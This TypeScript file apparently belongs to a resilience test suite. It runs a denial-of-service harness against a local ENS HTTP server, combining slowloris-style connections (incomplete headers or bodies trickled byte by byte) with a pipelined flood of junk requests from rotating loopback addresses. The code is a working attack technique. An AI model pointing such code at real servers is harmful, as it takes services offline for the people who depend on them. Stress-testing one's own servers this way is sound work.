import { connect, type Socket } from "node:net"
import type { AttackOrder, AttackResult, HostileOrder } from "./HostileOrders.ts"
import { rubbishFor } from "./Rubbish.ts"

/** Somebody who wants ENS to fall silent: slow connections without end, and a flood of requests that mean nothing. */
process.on("message", (order: HostileOrder) => {
  if (order._tag === "Begin") attack = new Attack(order)
  else process.send?.(attack?.end())
})
process.on("disconnect", () => process.exit())

const FLOODING = 256
/** Slow connections that were closed are made anew, so many in 10 ms. */
const ANEW = 20
/** Bytes that wait in this process for a connection that takes no more. */
const FULL = 64 * 1024
/** Requests that one connection may have unanswered: with more, most would be lost where the first one closes it. */
const AHEAD = 4
/** Milliseconds without an answer after which another connection is made. */
const STUCK = 500

let attack: Attack | undefined

class Attack {
  readonly #order: AttackOrder
  readonly #began = performance.now()
  readonly #rubbish: ReadonlyArray<Buffer>
  readonly #slow = new Set<Socket>()
  readonly #flooding: Array<Flooder | undefined> = []
  readonly #answers: Record<string, number> = {}
  readonly #tick: NodeJS.Timeout
  readonly #trickle: NodeJS.Timeout
  #sent = 0
  #turn = 0
  #slowMade = 0
  #isOver = false

  constructor(order: AttackOrder) {
    this.#order = order
    this.#rubbish = rubbishFor(order.target)
    this.#tick = setInterval(() => this.#go(), 10)
    this.#trickle = setInterval(() => {
      for (const socket of this.#slow) if (trickles.has(socket)) socket.write(trickles.get(socket)!)
    }, 1_000)
  }

  end(): AttackResult {
    this.#isOver = true
    clearInterval(this.#tick)
    clearInterval(this.#trickle)
    const slowOpen = this.#slow.size
    for (const one of this.#flooding) one?.socket.destroy()
    for (const socket of this.#slow) socket.destroy()
    const answered = Object.values(this.#answers).reduce((sum, count) => sum + count, 0)
    return {
      milliseconds: performance.now() - this.#began,
      sent: this.#sent,
      answers: { ...this.#answers, none: this.#sent - answered },
      slowOpen,
      slowMade: this.#slowMade
    }
  }

  #go(): void {
    for (let made = 0; made < ANEW && this.#slow.size < this.#order.slow; made++) this.#slowOne()
    const due = ((performance.now() - this.#began) / 1000) * this.#order.rate
    for (let tries = 0; this.#sent < due && tries < FLOODING * AHEAD; tries++) {
      const at = this.#turn++ % FLOODING
      this.#flooding[at] ??= this.#flooder(at)
      const { open, socket } = this.#flooding[at]!
      if (open.waiting >= AHEAD || socket.writableLength > FULL) {
        // The server takes what follows for a body that never ends.
        if (performance.now() > open.since + STUCK) socket.destroy()
        continue
      }
      open.waiting++
      open.since = performance.now()
      socket.write(this.#rubbish[this.#sent++ % this.#rubbish.length]!)
    }
  }

  #flooder(at: number): Flooder {
    const socket = this.#connect(`127.0.2.${1 + (at % 16)}`)
    const open = { waiting: 0, since: 0 }
    socket.on("data", (chunk: Buffer) => {
      for (const [, status = ""] of chunk.toString("latin1").matchAll(/HTTP\/1\.1 (\d{3})/g)) {
        this.#answers[status] = (this.#answers[status] ?? 0) + 1
        open.waiting--
      }
    })
    socket.on("close", () => {
      this.#flooding[at] = undefined
    })
    return { socket, open }
  }

  #slowOne(): void {
    const number = this.#slowMade++
    const socket = this.#connect(`127.0.1.${1 + (number % 20)}`)
    this.#slow.add(socket)
    socket.resume().on("close", () => this.#slow.delete(socket))
    const way = number % 3
    if (way === 0) return
    socket.write(way === 1 ? HEAD_BEGUN : BODY_BEGUN)
    trickles.set(socket, way === 1 ? "X-More: 1\r\n" : " ")
  }

  #connect(localAddress: string): Socket {
    const from = this.#order.isOneAddress || process.platform !== "linux" ? {} : { localAddress }
    const socket = connect({ host: "127.0.0.1", port: this.#order.port, noDelay: true, ...from })
    socket.on("error", () => socket.destroy())
    if (this.#isOver) socket.destroy()
    return socket
  }
}

interface Flooder {
  readonly socket: Socket
  readonly open: { waiting: number; since: number }
}

const trickles = new WeakMap<Socket, string>()
const HEAD_BEGUN = "POST /api/ens/getpublickey HTTP/1.1\r\nHost: ens.example.com\r\n"
const BODY_BEGUN = `${HEAD_BEGUN}Content-Type: application/json\r\nContent-Length: 200000\r\n\r\n`
